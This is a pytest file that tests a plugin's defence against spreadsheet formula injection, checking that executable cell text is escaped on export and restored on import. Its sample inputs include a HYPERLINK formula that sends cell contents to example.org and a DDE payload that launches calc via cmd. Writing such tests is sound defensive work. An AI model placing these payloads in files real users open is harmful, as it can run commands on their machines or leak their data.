"""Text that a spreadsheet would run is marked when written, and read back as it was."""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

from ia_plugin.core.cells import MARKED_BYTES, marked, opens_in_a_spreadsheet, unmarked, unmarked_rows
from ia_plugin.core.imports.source import open_source

RUN = [
    '=HYPERLINK("http://example.org/?"&A1,"North")',
    "=1+1",
    "+44 20 7946",
    "-A1+B2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "of:=1+1",
    "OF:=cmd",
    "-5 to 5",
    "'=1+1",
    "''@x",
    "-2+3+cmd|' /C calc'!A0",
]
PLAIN = [
    "North",
    "",
    "a=b",
    "O'Neill",
    "'tis",
    "5",
    "-5",
    "+5",
    "-0.25",
    "-1e-7",
    ".5",
    "-",
    "--",
    "1-2",
    " x",
    "of",
    "'North'",
]


@pytest.mark.parametrize("text", RUN)
def test_what_a_spreadsheet_runs_is_marked(text):
    assert marked(text) == f"'{text}"
    assert unmarked(marked(text)) == text
    assert MARKED_BYTES.search(marked(text).encode()) or text.startswith("'")


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text):
    assert marked(text) == text and unmarked(text) == text


@pytest.mark.parametrize("text", [*RUN, *PLAIN])
def test_twice_there_and_twice_back(text):
    assert unmarked(unmarked(marked(marked(text)))) == text


@pytest.mark.parametrize(
    ("name", "whether"),
    [("a.csv", True), ("a.TSV", True), ("a.xlsx", True), ("a.ods|layername=x", True), ("a.gpkg|layername=b.csv", False), ("memory:", False),
     ("a.geojson", False), ("", False), ("odd.csv/a.shp", False)],
)  # fmt: skip
def test_which_outputs_are_spreadsheets(name, whether):
    assert opens_in_a_spreadsheet(name) is whether


def test_rows_of_a_file_are_read_without_marks():
    rows = pd.DataFrame({"unit": ["'=A", None, "North", np.nan], "x": [1.0, 2.0, 3.0, 4.0]}, index=[4, 5, 6, 9])
    found = unmarked_rows(rows.astype({"unit": object}))
    assert found["unit"].iloc[0] == "=A" and found["unit"].isna().tolist() == [False, True, False, True]
    assert found.index.tolist() == [4, 5, 6, 9] and found["x"].tolist() == [1.0, 2.0, 3.0, 4.0]
    same = pd.DataFrame({"unit": ["North", None]}, dtype=object)
    assert unmarked_rows(same) is same


@pytest.mark.parametrize("end", ["csv", "tsv"])
def test_an_extract_that_was_written_marked_is_read_as_it_was(tmp_path, end):
    separator = "\t" if end == "tsv" else ","
    lines = [["officer_id", "time", "unit"], ["12", "2024-06-03 10:00", "'=North"], ["13", "2024-06-03 10:05", "'-A-"]]
    path = tmp_path / f"fixes.{end}"
    path.write_text("\n".join(separator.join(line) for line in lines) + "\n", encoding="utf-8")
    [chunk] = open_source(path, "affiliations").chunks()
    assert chunk.rows["unit"].tolist() == ["=North", "-A-"]
